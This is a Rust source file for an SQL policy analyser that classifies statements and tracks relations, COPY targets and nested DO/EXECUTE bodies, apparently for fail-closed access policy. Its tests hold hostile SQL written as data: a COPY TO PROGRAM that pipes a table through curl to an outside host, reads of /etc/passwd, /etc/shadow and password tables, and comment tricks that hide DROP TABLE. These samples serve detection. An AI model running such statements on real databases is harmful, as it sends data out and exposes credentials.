//! SQL analysis for policy (PostgreSQL and MySQL dialects): a tokenizer-based analyser that, for
//! each statement of a possibly multi-statement string, gives the statement kind, the relations
//! read and written, the functions called, whether an UPDATE/DELETE has a WHERE clause, COPY's
//! direction and target, writable CTEs, and the statements inside DO blocks and literal EXECUTE
//! strings. Comments (`--`, `#` in MySQL, nested `/* */`), case, quoted identifiers,
//! dollar-quoted strings and `E''` escapes are handled; text inside string literals is data.
//! What it cannot analyse is marked (`certain: false`), so policy can fail closed.
//!
//! ```
//! use sluice_protocols::sql::{self, Dialect, Kind};
//! let stmts = sql::analyze("select 1; /* x */ DrOp TABLE public.users", Dialect::Postgres)?;
//! assert_eq!(stmts[1].kind, Kind::Drop);
//! assert_eq!(stmts[1].writes, ["public.users"]);
//! # Ok::<(), sluice_protocols::sql::Error>(())
//! ```

use std::borrow::Cow;
use std::fmt;

/// The SQL dialect: quoting and comment rules differ.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Dialect {
    /// PostgreSQL: `"ident"`, nested comments, `$tag$…$tag$`, `E'…'`.
    Postgres,
    /// MySQL / MariaDB: `` `ident` ``, `"…"` strings, `#` comments, backslash escapes, and
    /// `/*! … */` comments whose content is executed.
    MySql,
}

/// Why a string could not be tokenized.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Error {
    offset: usize,
}

impl Error {
    /// Where the unterminated string, identifier or comment starts.
    pub fn offset(&self) -> usize {
        self.offset
    }
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "unterminated string, identifier or comment starting at offset {}",
            self.offset
        )
    }
}

impl std::error::Error for Error {}

/// What a statement does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[non_exhaustive]
pub enum Kind {
    /// SELECT, VALUES, TABLE, SHOW-like reads.
    Select,
    /// INSERT, REPLACE.
    Insert,
    /// UPDATE.
    Update,
    /// DELETE.
    Delete,
    /// MERGE.
    Merge,
    /// COPY, LOAD DATA.
    Copy,
    /// CREATE (tables, functions, …; roles and users are [`Kind::Role`]).
    Create,
    /// ALTER.
    Alter,
    /// DROP, and ALTER statements that drop or truncate (a column, a constraint, a partition).
    Drop,
    /// TRUNCATE.
    Truncate,
    /// GRANT.
    Grant,
    /// REVOKE.
    Revoke,
    /// CREATE/ALTER/DROP ROLE or USER, SET ROLE, SET PASSWORD.
    Role,
    /// SET.
    Set,
    /// SHOW.
    Show,
    /// BEGIN, START TRANSACTION, COMMIT, ROLLBACK, SAVEPOINT, RELEASE.
    Transaction,
    /// CALL.
    Call,
    /// DO (an anonymous code block).
    Do,
    /// EXECUTE, PREPARE, DEALLOCATE.
    Execute,
    /// EXPLAIN (the explained statement is analysed too).
    Explain,
    /// USE (MySQL).
    Use,
    /// LISTEN, UNLISTEN, NOTIFY (PostgreSQL asynchronous notifications).
    Listen,
    /// Anything else (VACUUM, LISTEN, …): reported, not guessed.
    Other,
}

/// COPY's direction and endpoint.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CopyTarget {
    /// `COPY … TO STDOUT` / `FROM STDIN`.
    Client,
    /// A server-side file.
    File(String),
    /// A server-side program.
    Program(String),
}

/// One analysed statement.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Statement {
    /// Its kind.
    pub kind: Kind,
    /// Byte range in the input.
    pub span: (usize, usize),
    /// Relations read (schema-qualified as written, lowercased unless quoted).
    pub reads: Vec<String>,
    /// Relations written, created, altered or dropped.
    pub writes: Vec<String>,
    /// Functions called.
    pub functions: Vec<String>,
    /// For UPDATE and DELETE: whether there is a WHERE clause.
    pub has_where: bool,
    /// For COPY: `true` for COPY … FROM (into the database).
    pub copy_from: bool,
    /// For COPY: where the data goes or comes from.
    pub copy_target: Option<CopyTarget>,
    /// Whether a WITH clause holds INSERT/UPDATE/DELETE.
    pub writable_cte: bool,
    /// Statements inside DO blocks and literal EXECUTE strings.
    pub nested: Vec<Statement>,
    /// False when something could not be analysed statically (dynamic EXECUTE, unknown kind).
    pub certain: bool,
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Tok<'a> {
    /// A word, lowercased (borrowed from the input when it already was).
    Word(Cow<'a, str>),
    Quoted(String),
    Str(String),
    Num,
    Punct(u8),
    Semi,
}

fn tokenize(s: &str, d: Dialect) -> Result<Vec<(Tok<'_>, usize)>, Error> {
    let b = s.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        let start = i;
        match c {
            _ if c.is_ascii_whitespace() => i += 1,
            b'-' if b.get(i + 1) == Some(&b'-') => {
                i = b[i..].iter().position(|&x| x == b'\n').map_or(b.len(), |p| i + p)
            }
            b'#' if d == Dialect::MySql => i = b[i..].iter().position(|&x| x == b'\n').map_or(b.len(), |p| i + p),
            b'/' if b.get(i + 1) == Some(&b'*') => {
                if d == Dialect::MySql && b.get(i + 2) == Some(&b'!') {
                    // Executable comment: its content is SQL. Skip the marker and the version.
                    i += 3;
                    while b.get(i).is_some_and(u8::is_ascii_digit) {
                        i += 1;
                    }
                    continue;
                }
                let mut depth = 0;
                loop {
                    if i + 1 >= b.len() {
                        return Err(Error { offset: start });
                    }
                    if b[i] == b'/' && b[i + 1] == b'*' {
                        depth += 1;
                        i += 2;
                        if d == Dialect::MySql && depth > 1 {
                            depth = 1; // MySQL comments do not nest
                        }
                    } else if b[i] == b'*' && b[i + 1] == b'/' {
                        depth -= 1;
                        i += 2;
                        if depth == 0 {
                            break;
                        }
                    } else {
                        i += 1;
                    }
                }
            }
            b'*' if d == Dialect::MySql && b.get(i + 1) == Some(&b'/') => i += 2, // end of /*! … */
            b'\'' => {
                let e_prefix = d == Dialect::Postgres
                    && out
                        .last()
                        .is_some_and(|(t, p): &(Tok<'_>, usize)| *p + 1 == i && matches!(t, Tok::Word(w) if w == "e"));
                if e_prefix {
                    out.pop(); // the E of E'…' was read as a word
                }
                let backslash = d == Dialect::MySql || e_prefix;
                let (text, end) = string(b, i, b'\'', backslash)?;
                out.push((Tok::Str(text), start));
                i = end;
            }
            b'"' if d == Dialect::MySql => {
                let (text, end) = string(b, i, b'"', true)?;
                out.push((Tok::Str(text), start));
                i = end;
            }
            b'"' | b'`' => {
                let (text, end) = string(b, i, c, false)?;
                out.push((Tok::Quoted(text), start));
                i = end;
            }
            b'$' if d == Dialect::Postgres => {
                // $tag$ … $tag$ (tag may be empty); $1 is a parameter.
                let tag_end = b[i + 1..]
                    .iter()
                    .position(|&x| !(x.is_ascii_alphanumeric() || x == b'_'))
                    .map(|p| i + 1 + p);
                match tag_end {
                    Some(e) if b[e] == b'$' && !b.get(i + 1).is_some_and(u8::is_ascii_digit) => {
                        let tag = &b[i..=e];
                        let body_start = e + 1;
                        let close = b[body_start..]
                            .windows(tag.len())
                            .position(|w| w == tag)
                            .ok_or(Error { offset: start })?;
                        out.push((
                            Tok::Str(String::from_utf8_lossy(&b[body_start..body_start + close]).into_owned()),
                            start,
                        ));
                        i = body_start + close + tag.len();
                    }
                    _ => {
                        i += 1;
                        while b.get(i).is_some_and(u8::is_ascii_digit) {
                            i += 1;
                        }
                        out.push((Tok::Num, start));
                    }
                }
            }
            b';' => {
                out.push((Tok::Semi, start));
                i += 1;
            }
            _ if c.is_ascii_alphabetic() || c == b'_' || c >= 0x80 => {
                while b
                    .get(i)
                    .is_some_and(|&x| x.is_ascii_alphanumeric() || x == b'_' || x == b'$' || x >= 0x80)
                {
                    i += 1;
                }
                let w = &s[start..i];
                let w = if w.bytes().any(|b| b.is_ascii_uppercase()) {
                    Cow::Owned(w.to_ascii_lowercase())
                } else {
                    Cow::Borrowed(w)
                };
                out.push((Tok::Word(w), start));
            }
            _ if c.is_ascii_digit() => {
                while b.get(i).is_some_and(|&x| x.is_ascii_alphanumeric() || x == b'.') {
                    i += 1;
                }
                out.push((Tok::Num, start));
            }
            _ => {
                out.push((Tok::Punct(c), start));
                i += 1;
            }
        }
    }
    Ok(out)
}

/// A quoted run starting at `i` (the quote); doubled quotes escape, and with `backslash` so do
/// backslashes. Returns the unescaped text and the index after the closing quote.
fn string(b: &[u8], i: usize, q: u8, backslash: bool) -> Result<(String, usize), Error> {
    let mut out = Vec::new();
    let mut j = i + 1;
    while j < b.len() {
        match b[j] {
            b'\\' if backslash => {
                if let Some(&n) = b.get(j + 1) {
                    out.push(match n {
                        b'n' => b'\n',
                        b't' => b'\t',
                        b'r' => b'\r',
                        b'0' => 0,
                        x => x,
                    });
                }
                j += 2;
            }
            x if x == q => {
                if b.get(j + 1) == Some(&q) {
                    out.push(q);
                    j += 2;
                } else {
                    return Ok((String::from_utf8_lossy(&out).into_owned(), j + 1));
                }
            }
            x => {
                out.push(x);
                j += 1;
            }
        }
    }
    Err(Error { offset: i })
}

const MAX_NESTING: usize = 8;

/// Splits `sql` into statements and analyses each.
pub fn analyze(sql: &str, dialect: Dialect) -> Result<Vec<Statement>, Error> {
    analyze_at(sql, dialect, 0)
}

fn analyze_at(sql: &str, dialect: Dialect, depth: usize) -> Result<Vec<Statement>, Error> {
    let toks = tokenize(sql, dialect)?;
    let mut out = Vec::new();
    for stmt in toks.split(|(t, _)| *t == Tok::Semi) {
        if stmt.is_empty() {
            continue;
        }
        let start = stmt[0].1;
        let end = toks
            .iter()
            .find(|(t, p)| *t == Tok::Semi && *p > start)
            .map_or(sql.len(), |(_, p)| *p);
        out.push(statement(stmt, (start, end), dialect, depth));
    }
    Ok(out)
}

fn word<'t>(t: Option<&'t (Tok<'_>, usize)>) -> Option<&'t str> {
    match t {
        Some((Tok::Word(w), _)) => Some(w),
        _ => None,
    }
}

/// A possibly qualified name starting at `i`: the name and the index after it.
fn name(toks: &[(Tok<'_>, usize)], mut i: usize) -> Option<(String, usize)> {
    let mut parts = Vec::new();
    loop {
        match toks.get(i) {
            Some((Tok::Word(w), _)) => parts.push(w.to_string()),
            Some((Tok::Quoted(q), _)) => parts.push(q.clone()),
            _ => break,
        }
        i += 1;
        if matches!(toks.get(i), Some((Tok::Punct(b'.'), _))) {
            i += 1;
        } else {
            break;
        }
    }
    (!parts.is_empty()).then(|| (parts.join("."), i))
}

/// Words that begin a statement.
const VERBS: &[&str] = &[
    "select", "insert", "update", "delete", "merge", "copy", "create", "alter", "drop", "truncate", "grant", "revoke",
    "set", "show", "call", "do", "execute", "explain", "with", "values", "table", "replace", "load",
];

const NOT_RELATIONS: &[&str] = &[
    "select",
    "lateral",
    "only",
    "unnest",
    "generate_series",
    "values",
    "if",
    "exists",
    "not",
    "table",
];

fn statement(toks: &[(Tok<'_>, usize)], span: (usize, usize), dialect: Dialect, depth: usize) -> Statement {
    let mut s = Statement {
        kind: Kind::Other,
        span,
        reads: Vec::new(),
        writes: Vec::new(),
        functions: Vec::new(),
        has_where: false,
        copy_from: false,
        copy_target: None,
        writable_cte: false,
        nested: Vec::new(),
        certain: true,
    };
    let w = |i: usize| word(toks.get(i));
    // Skip a leading WITH … clause to find the main verb, noting writable CTEs.
    let mut verb_at = 0;
    if w(0) == Some("with") {
        let mut level = 0i32;
        for (i, (t, _)) in toks.iter().enumerate() {
            match t {
                Tok::Punct(b'(') => level += 1,
                Tok::Punct(b')') => level -= 1,
                Tok::Word(x) if level > 0 && matches!(&**x, "insert" | "update" | "delete" | "merge") => {
                    s.writable_cte = true
                }
                Tok::Word(x)
                    if level == 0
                        && i > 0
                        && matches!(
                            &**x,
                            "select" | "insert" | "update" | "delete" | "merge" | "values" | "table"
                        ) =>
                {
                    verb_at = i;
                    break;
                }
                _ => {}
            }
        }
    }
    // PL/pgSQL block keywords before a statement (`BEGIN DROP TABLE x`, `ELSE DELETE …`) are not
    // the statement; `BEGIN` alone (or BEGIN WORK / TRANSACTION / ISOLATION …) is a transaction.
    while matches!(
        w(verb_at),
        Some("begin" | "declare" | "loop" | "then" | "else" | "perform")
    ) && w(verb_at + 1).is_some_and(|v| VERBS.contains(&v))
    {
        verb_at += 1;
    }
    let verb = w(verb_at).unwrap_or("");
    let next = w(verb_at + 1).unwrap_or("");
    s.kind = match verb {
        "select" | "values" | "table" => Kind::Select,
        "insert" | "replace" => Kind::Insert,
        "update" => Kind::Update,
        "delete" => Kind::Delete,
        "merge" => Kind::Merge,
        "copy" => Kind::Copy,
        "load" => Kind::Copy,
        "create" | "alter" | "drop" if matches!(next, "role" | "user" | "group") => Kind::Role,
        "create" => Kind::Create,
        // `ALTER … DROP …` and `ALTER … TRUNCATE PARTITION` remove data like a DROP does.
        "alter"
            if toks[verb_at + 1..]
                .iter()
                .any(|(t, _)| matches!(t, Tok::Word(x) if matches!(&**x, "drop" | "truncate"))) =>
        {
            Kind::Drop
        }
        "alter" => Kind::Alter,
        "drop" => Kind::Drop,
        "truncate" => Kind::Truncate,
        "grant" => Kind::Grant,
        "revoke" => Kind::Revoke,
        "set"
            if matches!(next, "role" | "password" | "session")
                && !matches!(w(verb_at + 2), Some("characteristics")) =>
        {
            Kind::Role
        }
        "set" | "reset" => Kind::Set,
        "show" => Kind::Show,
        "begin" | "start" | "commit" | "rollback" | "savepoint" | "release" | "end" | "abort" => Kind::Transaction,
        "call" => Kind::Call,
        "do" => Kind::Do,
        "execute" | "prepare" | "deallocate" => Kind::Execute,
        "explain" => Kind::Explain,
        "use" => Kind::Use,
        "listen" | "unlisten" | "notify" if verb_at == 0 => Kind::Listen,
        _ => Kind::Other,
    };
    if s.kind == Kind::Other {
        s.certain = false;
    }
    if s.kind == Kind::Listen {
        // Only the plain forms are understood: `LISTEN ch`, `UNLISTEN ch | *`,
        // `NOTIFY ch [, 'payload']`; anything more is not guessed at.
        let plain = match toks.get(1..).unwrap_or_default() {
            [(Tok::Word(_) | Tok::Quoted(_), _)] => true,
            [(Tok::Punct(b'*'), _)] => verb == "unlisten",
            [
                (Tok::Word(_) | Tok::Quoted(_), _),
                (Tok::Punct(b','), _),
                (Tok::Str(_), _),
            ] => verb == "notify",
            _ => false,
        };
        s.certain = plain;
    }
    // Relations and functions, by the keyword before them.
    let mut i = 0;
    while i < toks.len() {
        let (t, _) = &toks[i];
        if let Tok::Word(x) = t {
            // A function: a name followed by `(` that is not a keyword introducing a list.
            if matches!(toks.get(i + 1), Some((Tok::Punct(b'('), _)))
                && !matches!(
                    &**x,
                    "in" | "values"
                        | "exists"
                        | "any"
                        | "all"
                        | "as"
                        | "using"
                        | "on"
                        | "over"
                        | "filter"
                        | "within"
                        | "into"
                        | "table"
                        | "from"
                        | "join"
                        | "where"
                        | "and"
                        | "or"
                        | "not"
                        | "select"
                        | "with"
                        | "cast"
                        | "case"
                        | "when"
                        | "then"
                        | "else"
                        | "row"
                        | "array"
                        | "partition"
                        | "by"
                        | "returning"
                        | "set"
                        | "conflict"
                        | "lateral"
                        | "recursive"
                )
            {
                s.functions.push(x.to_string());
            }
            let target = |i: usize| {
                let mut j = i + 1;
                while matches!(
                    w(j),
                    Some(
                        "only"
                            | "if"
                            | "exists"
                            | "not"
                            | "table"
                            | "lateral"
                            | "temporary"
                            | "temp"
                            | "unlogged"
                            | "materialized"
                            | "view"
                            | "index"
                            | "concurrently"
                            | "schema"
                            | "database"
                            | "function"
                            | "procedure"
                            | "sequence"
                            | "extension"
                            | "type"
                            | "trigger"
                            | "policy"
                            | "ignore"
                            | "low_priority"
                            | "quick"
                    )
                ) {
                    j += 1;
                }
                name(toks, j).filter(|(n, _)| !NOT_RELATIONS.contains(&n.as_str()))
            };
            match &**x {
                "from" | "join" if !(s.kind == Kind::Copy && x == "from") => {
                    if let Some((n, _)) = target(i) {
                        if s.kind == Kind::Delete && x == "from" && s.writes.is_empty() {
                            s.writes.push(n);
                        } else {
                            s.reads.push(n);
                        }
                    }
                }
                "into" if matches!(s.kind, Kind::Insert | Kind::Merge | Kind::Select) => {
                    if let Some((n, _)) = target(i) {
                        s.writes.push(n);
                    }
                }
                "using" if s.kind == Kind::Merge => {
                    if let Some((n, _)) = target(i) {
                        s.reads.push(n);
                    }
                }
                "update" if i == verb_at => {
                    if let Some((n, _)) = target(i) {
                        s.writes.push(n);
                    }
                }
                "truncate" | "drop" | "alter" | "create" if i == verb_at && s.kind != Kind::Role => {
                    if let Some((n, _)) = target(i) {
                        s.writes.push(n);
                    }
                }
                "copy" if i == verb_at => {
                    if let Some((n, _)) = name(toks, i + 1) {
                        s.writes.push(n);
                    }
                }
                "where" if i > verb_at => s.has_where = true,
                _ => {}
            }
        }
        i += 1;
    }
    if s.kind == Kind::Copy {
        // COPY x [(cols)] FROM|TO {STDIN|STDOUT|'file'|PROGRAM 'cmd'}; LOAD DATA [LOCAL] INFILE 'f'.
        for (j, (t, _)) in toks.iter().enumerate() {
            match t {
                Tok::Word(x) if x == "from" || x == "to" || x == "infile" => {
                    s.copy_from = x != "to";
                    let target = match (toks.get(j + 1), toks.get(j + 2)) {
                        (Some((Tok::Word(p), _)), Some((Tok::Str(cmd), _))) if p == "program" => {
                            Some(CopyTarget::Program(cmd.clone()))
                        }
                        (Some((Tok::Word(p), _)), _) if p == "stdin" || p == "stdout" => Some(CopyTarget::Client),
                        (Some((Tok::Str(f), _)), _) => {
                            Some(if toks.iter().any(|(t, _)| *t == Tok::Word("local".into())) {
                                CopyTarget::Client
                            } else {
                                CopyTarget::File(f.clone())
                            })
                        }
                        _ => None,
                    };
                    if target.is_some() {
                        s.copy_target = target;
                        break;
                    }
                }
                _ => {}
            }
        }
        if s.copy_target.is_none() {
            // COPY (query) TO …: the query's relations are reads.
            s.certain = false;
        }
        if s.copy_from {
            // LOAD DATA … INTO TABLE t writes t.
        } else {
            let written: Vec<String> = std::mem::take(&mut s.writes);
            s.reads.extend(written);
        }
    }
    // Bodies that are themselves SQL.
    let body_of = |toks: &[(Tok<'_>, usize)]| {
        toks.iter()
            .find_map(|(t, _)| if let Tok::Str(b) = t { Some(b.clone()) } else { None })
    };
    match s.kind {
        Kind::Do => match body_of(toks) {
            Some(body) if depth < MAX_NESTING => match analyze_at(&body, dialect, depth + 1) {
                Ok(inner) => s.nested = inner,
                Err(_) => s.certain = false,
            },
            _ => s.certain = false,
        },
        Kind::Execute if verb == "execute" => match toks.get(verb_at + 1) {
            Some((Tok::Str(body), _)) if depth < MAX_NESTING => {
                match analyze_at(body, dialect, depth + 1) {
                    Ok(inner) => s.nested = inner,
                    Err(_) => s.certain = false,
                }
                // `EXECUTE 'DROP TABLE ' || name`: the literal is only a prefix.
                if matches!(toks.get(verb_at + 2), Some((Tok::Punct(b'|' | b'+'), _))) {
                    s.certain = false;
                }
            }
            // EXECUTE of a prepared name or a built string: not knowable here.
            _ => s.certain = false,
        },
        Kind::Explain => {
            let inner_at = toks.iter().position(|(t, _)| matches!(t, Tok::Word(x) if matches!(&**x, "select" | "insert" | "update" | "delete" | "merge" | "with" | "values" | "table")));
            if let Some(k) = inner_at {
                s.nested.push(statement(&toks[k..], span, dialect, depth + 1));
            }
        }
        _ => {}
    }
    if matches!(s.kind, Kind::Do | Kind::Execute) && !s.nested.iter().all(|n| n.certain) {
        s.certain = false;
    }
    // PL/pgSQL bodies may EXECUTE strings built at run time.
    if toks.iter().any(|(t, _)| matches!(t, Tok::Word(x) if x == "execute")) && s.kind != Kind::Execute {
        s.certain = false;
    }
    s.functions.sort();
    s.functions.dedup();
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pg(s: &str) -> Vec<Statement> {
        analyze(s, Dialect::Postgres).expect("tokenizes")
    }

    #[test]
    fn kinds_and_relations() {
        let s = pg("SELECT u.id FROM public.users u JOIN orders o ON o.uid = u.id WHERE pg_catalog.now() > o.t");
        assert_eq!(
            (s[0].kind, s[0].reads.clone()),
            (Kind::Select, vec!["public.users".to_string(), "orders".to_string()])
        );
        assert_eq!(s[0].functions, ["now"]);
        let s = pg(
            "insert into audit(id) select id from users; update accounts set balance = 0; delete from sessions where age > 3",
        );
        assert_eq!(
            (s[0].kind, s[0].writes.clone(), s[0].reads.clone()),
            (Kind::Insert, vec!["audit".to_string()], vec!["users".to_string()])
        );
        assert_eq!(
            (s[1].kind, s[1].writes.clone(), s[1].has_where),
            (Kind::Update, vec!["accounts".to_string()], false)
        );
        assert_eq!(
            (s[2].kind, s[2].writes.clone(), s[2].has_where),
            (Kind::Delete, vec!["sessions".to_string()], true)
        );
        assert_eq!(pg("select * from pg_shadow")[0].reads, ["pg_shadow"]);
        assert_eq!(pg("TRUNCATE TABLE logs")[0].writes, ["logs"]);
        assert_eq!(pg("drop table if exists \"Users\"")[0].writes, ["Users"]);
        assert_eq!(pg("ALTER USER app WITH PASSWORD 'x'")[0].kind, Kind::Role);
        assert_eq!(pg("grant all on x to y")[0].kind, Kind::Grant);
        assert_eq!(pg("begin")[0].kind, Kind::Transaction);
        assert_eq!(pg("SET search_path = x")[0].kind, Kind::Set);
        assert!(!pg("vacuum full")[0].certain);
    }

    #[test]
    fn evasion_resistance() {
        let s = pg("SeLeCt 1; /* a /* nested */ comment */ DrOp\n\tTABLE --x\n users");
        assert_eq!(
            (s.len(), s[1].kind, s[1].writes.clone()),
            (2, Kind::Drop, vec!["users".to_string()])
        );
        let s = pg("select 'DROP TABLE users; --', $$ DELETE FROM x $$, E'\\' ; drop table y'");
        assert_eq!(s.len(), 1, "text inside literals is data: {s:?}");
        assert_eq!(s[0].kind, Kind::Select);
        let s = pg("select * from \"pg_shadow\"");
        assert_eq!(s[0].reads, ["pg_shadow"]);
        assert!(analyze("select 'open", Dialect::Postgres).is_err());
        assert!(analyze("select /* open", Dialect::Postgres).is_err());
    }

    #[test]
    fn copy_do_execute_and_ctes() {
        let s = pg("COPY users TO PROGRAM 'curl -d @- http://x'");
        assert_eq!(
            (s[0].kind, s[0].copy_target.clone(), s[0].copy_from),
            (
                Kind::Copy,
                Some(CopyTarget::Program("curl -d @- http://x".into())),
                false
            )
        );
        assert_eq!(s[0].reads, ["users"]);
        let s = pg("copy t from '/etc/passwd'");
        assert_eq!(
            (s[0].copy_target.clone(), s[0].copy_from, s[0].writes.clone()),
            (
                Some(CopyTarget::File("/etc/passwd".into())),
                true,
                vec!["t".to_string()]
            )
        );
        assert_eq!(pg("copy t to stdout")[0].copy_target, Some(CopyTarget::Client));
        let s = pg("DO $body$ BEGIN DROP TABLE users; END $body$");
        assert_eq!(s[0].kind, Kind::Do);
        assert!(
            s[0].nested
                .iter()
                .any(|n| n.kind == Kind::Drop && n.writes == ["users"]),
            "{:?}",
            s[0].nested
        );
        let s = pg("EXECUTE 'truncate audit'");
        assert_eq!(s[0].nested[0].kind, Kind::Truncate);
        assert!(!pg("EXECUTE stmt1")[0].certain);
        let s = pg("DO $$ BEGIN EXECUTE 'DROP TABLE ' || t; END $$");
        assert!(!s[0].certain && s[0].nested.iter().any(|n| !n.certain), "{s:?}");
        let s = pg("WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone");
        assert!(s[0].writable_cte);
        assert_eq!(s[0].kind, Kind::Select);
        let s = pg("EXPLAIN ANALYZE DELETE FROM users");
        assert_eq!((s[0].kind, s[0].nested[0].kind), (Kind::Explain, Kind::Delete));
    }

    #[test]
    fn mysql_dialect() {
        let s = analyze(
            "select `password` from mysql.user # comment\n; /*!50000 DROP TABLE t */",
            Dialect::MySql,
        )
        .expect("ok");
        assert_eq!(s[0].reads, ["mysql.user"]);
        assert_eq!((s[1].kind, s[1].writes.clone()), (Kind::Drop, vec!["t".to_string()]));
        let s = analyze("select \"a;b\", 'it\\'s; drop table x'", Dialect::MySql).expect("ok");
        assert_eq!(s.len(), 1);
        let s = analyze("LOAD DATA INFILE '/etc/shadow' INTO TABLE t", Dialect::MySql).expect("ok");
        assert_eq!(
            (s[0].kind, s[0].copy_target.clone()),
            (Kind::Copy, Some(CopyTarget::File("/etc/shadow".into())))
        );
    }

    #[test]
    fn arbitrary_input_never_panics() {
        let alphabet: &[&str] = &[
            "select", "drop", "from", "$$", "$a$", "'", "\"", "`", "/*", "*/", "--", "\n", ";", "(", ")", "e'", "\\",
            "x", " ", ".", "do", "execute", "copy", "with", "#", "/*!",
        ];
        let mut seed = 0x0123_4567_89AB_CDEFu64;
        for _ in 0..20_000 {
            let mut v = String::new();
            for _ in 0..(seed % 16) {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                v.push_str(alphabet[(seed >> 33) as usize % alphabet.len()]);
            }
            seed = seed.wrapping_add(1);
            let _ = analyze(&v, Dialect::Postgres);
            let _ = analyze(&v, Dialect::MySql);
        }
    }
}
